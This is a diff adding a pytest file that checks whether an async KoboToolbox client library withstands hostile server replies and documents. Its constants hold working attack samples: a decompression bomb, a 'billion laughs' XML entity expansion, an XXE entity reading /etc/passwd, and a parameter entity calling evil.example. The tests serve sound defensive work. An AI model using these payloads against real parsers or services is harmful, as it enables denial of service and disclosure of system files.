@@ -1,0 +1,220 @@
+"""What is too large, too deep or packed too well costs bounded memory and ends in our errors."""
+
+from __future__ import annotations
+
+import gzip
+import tracemalloc
+import zlib
+from pathlib import Path
+from typing import Any, Final
+
+import anyio
+import httpx
+import pytest
+
+from kobo_async import KoboClient, RetryPolicy, instance, xmlread, xmlsplit
+from kobo_async.call import Op
+from kobo_async.errors import MalformedReply, UnexpectedShape
+from kobo_async.forms.content import read_form
+from kobo_async.forms.layout import lay_out
+from kobo_async.forms.tabulate import Tabulator
+from kobo_async.sinks import destination
+from kobo_async.webhook.delivery import parse
+from tests.unit.serving import ALICE, TAGS, Server, ok
+
+MB: Final = 2**20
+LIMIT: Final = 4 * MB
+FILE: Op[bytes] = Op("GET", "/file/", bytes, accept="*/*")
+BOMB: Final = b'{"a":"' + b" " * (64 * MB) + b'"}'
+LAUGHS: Final = b"""<!DOCTYPE x [<!ENTITY a "ha">
+<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
+<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>
+<x><meta>&e;</meta></x>"""
+OUTSIDE: Final = b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x><meta>&y;</meta></x>'
+PARAMETER: Final = b'<!DOCTYPE x [<!ENTITY % y SYSTEM "http://evil.example/"> %y;]><x/>'
+
+
+def packed(body: bytes, packing: str) -> bytes:
+    """Pack like a server that means harm."""
+    for one in packing.split(", "):
+        body = gzip.compress(body) if one == "gzip" else zlib.compress(body)
+    return body
+
+
+def reply(packing: str, body: bytes, status: int = 200) -> httpx.Response:
+    async def pieces() -> Any:
+        for start in range(0, len(body), 16_384):
+            yield body[start : start + 16_384]
+
+    return httpx.Response(status, headers={**ALICE, "Content-Encoding": packing}, content=pieces())
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("status", [200, 400])
+@pytest.mark.parametrize("packing", ["gzip", "deflate"])
+async def test_a_bomb_is_left_alone_once_it_is_too_large(server: Server, packing: str, status: int):
+    server.answers(TAGS, reply(packing, packed(BOMB, packing), status))
+    async with server.client(largest_reply=LIMIT, retry=RetryPolicy(attempts=1)) as client:
+        tracemalloc.start()
+        with pytest.raises(MalformedReply, match="more than"):
+            await client.request("GET", TAGS)
+        _, most = tracemalloc.get_traced_memory()
+        tracemalloc.stop()
+    assert most < LIMIT + 36 * MB, "one piece unpacks to a thousand times its size"
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("packing", ["gzip, gzip", "deflate, gzip", "zstd", "br", "x", "gzip,gzip"])
+@pytest.mark.parametrize("whole", [True, False])
+async def test_other_packings_are_not_even_begun(server: Server, packing: str, *, whole: bool):
+    server.answers(TAGS, reply(packing, b"x" * 100))
+    server.answers("/file/", reply(packing, b"x" * 100))
+    async with server.client(retry=RetryPolicy(attempts=1)) as client:
+        asked = client.request("GET", TAGS) if whole else _pieces(client)
+        with pytest.raises(MalformedReply, match="nobody asked for"):
+            await asked
+    assert server.requests[0].headers["Accept-Encoding"] == "gzip, deflate"
+
+
+async def _pieces(client: KoboClient) -> list[bytes]:
+    async with client._sender.open(FILE.at()) as body:
+        return [piece async for piece in body]
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("packing", ["gzip", "deflate", "GZIP", "identity"])
+async def test_what_is_packed_as_asked_is_unpacked(server: Server, packing: str):
+    body = b'{"a": 1}'
+    server.answers(
+        TAGS, reply(packing, packed(body, packing.lower()) if packing[0] != "i" else body)
+    )
+    async with server.client(largest_reply=len(body)) as client:
+        assert await client.request("GET", TAGS) == {"a": 1}
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize(
+    ("body", "value"),
+    [
+        (b'{"a": 1, "a": 2}', {"a": 2}),
+        (b'{"a": 18446744073709551615}', {"a": 2**64 - 1}),
+        (b'{"a": ' + b"9" * 400 + b"}", None),
+        (b'{"a": NaN}', None),
+        (b'{"a": Infinity}', None),
+        (b'{"a": "\\ud800"}', None),
+        (b"[" * 100_000, None),
+        (b'{"a":' * 2000 + b"1" + b"}" * 2000, None),
+    ],
+)
+async def test_json_that_is_none_is_refused(server: Server, body: bytes, value: Any):
+    server.answers(TAGS, httpx.Response(200, content=body, headers=ALICE))
+    async with server.client(retry=RetryPolicy(attempts=1)) as client:
+        if value is None:
+            with pytest.raises(MalformedReply):
+                await client.request("GET", TAGS)
+        else:
+            assert await client.request("GET", TAGS) == value
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("count", [-1, 1.5, "9", True, []])
+async def test_a_count_that_is_none_is_refused(server: Server, count: Any):
+    page = {"count": count, "next": None, "previous": None, "results": []}
+    server.answers("/api/v2/assets/", ok(page))
+    async with server.client() as client:
+        with pytest.raises(UnexpectedShape, match="a count of"):
+            await client.assets.list().all()
+
+
+@pytest.mark.parametrize("document", [LAUGHS, OUTSIDE, PARAMETER])
+@pytest.mark.parametrize(
+    "read",
+    [
+        xmlread.read,
+        parse,
+        lambda document: xmlsplit.children(document, "meta"),
+        lambda document: instance.edited(document, {"a": "b"}, "uuid:x"),
+    ],
+)
+def test_entities_are_never_expanded(read: Any, document: bytes):
+    with pytest.raises(MalformedReply, match="document type"):
+        read(document)
+
+
+@pytest.mark.parametrize("encoding", ["nope", "hex", "idna", "undefined", "utf-7", "punycode"])
+def test_an_encoding_that_nobody_knows_is_refused(encoding: str):
+    document = f"<?xml version='1.0' encoding='{encoding}'?><a/>".encode()
+    for read in (xmlread.read, parse):
+        with pytest.raises(MalformedReply, match="not well-formed"):
+            read(document)
+
+
+@pytest.mark.parametrize("depth", [201, 100_000])
+def test_xml_that_is_nested_too_deep_is_refused(depth: int):
+    for read in (xmlread.read, parse, lambda one: instance.edited(one, {"a": "b"}, "x")):
+        with pytest.raises(MalformedReply):
+            read(b"<a>" * depth + b"</a>" * depth)
+    assert repr(xmlread.read(b"<a>" * 200 + b"</a>" * 200)), "what is read can be walked"
+
+
+def test_a_delivery_of_any_depth_or_size_is_read_or_refused():
+    for body in (b'{"a":' * 100_000, b"[" * 100_000, b" " * (11 * MB), b'{"a":1,"a":2}'):
+        with pytest.raises(MalformedReply):
+            parse(body)
+
+
+@pytest.mark.parametrize("suffix", ["csv", "xlsx", "parquet", "duckdb"])
+def test_an_answer_of_ten_megabytes_is_kept(tmp_path: Path, suffix: str):
+    content = {"survey": [{"type": "text", "name": "q", "$xpath": "q"}]}
+    layout = lay_out(read_form(content, "x"))
+    path = tmp_path / f"data.{suffix}"
+
+    async def put() -> list[str]:
+        async with destination(str(path)).for_tables(layout) as sink:
+            await sink.write(Tabulator(layout).add([{"_id": 1, "q": "=" * (10 * MB)}]))
+        return list(getattr(sink, "notes", []))
+
+    notes = anyio.run(put)
+    assert path.stat().st_size > 0
+    assert (suffix == "xlsx") == bool(notes), "a cell of Excel is cut, and that is told"
+
+
+def test_a_form_of_ten_thousand_questions_is_laid_out_and_written(tmp_path: Path):
+    names = [f"q{number}" for number in range(10_000)]
+    content = {"survey": [{"type": "text", "name": one, "$xpath": one} for one in names]}
+    layout = lay_out(read_form(content, "x"))
+    assert len(layout.tables[0].columns) >= 10_000
+    path = tmp_path / "data.csv"
+
+    async def put() -> None:
+        async with destination(str(path)).for_tables(layout) as sink:
+            await sink.write(Tabulator(layout).add([dict.fromkeys(names, "x") | {"_id": 1}]))
+
+    anyio.run(put)
+    assert path.read_bytes().count(b"\r\n") == 2
+
+
+@pytest.mark.parametrize("kind", ["group", "repeat"])
+def test_groups_within_groups_are_read(kind: str):
+    paths = ["/".join(f"g{one}" for one in range(number + 1)) for number in range(60)]
+    survey: list[dict[str, Any]] = [
+        {"type": f"begin_{kind}", "name": path.rpartition("/")[2], "$xpath": path} for path in paths
+    ]
+    survey += [{"type": "text", "name": "q", "$xpath": f"{paths[-1]}/q"}]
+    layout = lay_out(read_form({"survey": survey}, "x"))
+    assert len(layout.tables) == (1 if kind == "group" else len(paths) + 1)
+
+
+def nested(depth: int) -> Any:
+    answer: Any = "x"
+    for _ in range(depth):
+        answer = [answer]
+    return answer
+
+
+def test_an_answer_nested_too_deep_is_refused():
+    tabulator = Tabulator(lay_out(read_form({"survey": []}, "x")))
+    (batch,) = tabulator.add([{"_id": 1, "q": nested(300)}])
+    assert any("[" * 300 in str(cells) for cells in batch.cells)
+    with pytest.raises(UnexpectedShape, match="nested too deep"):
+        tabulator.add([{"_id": 2, "q": nested(1000)}])
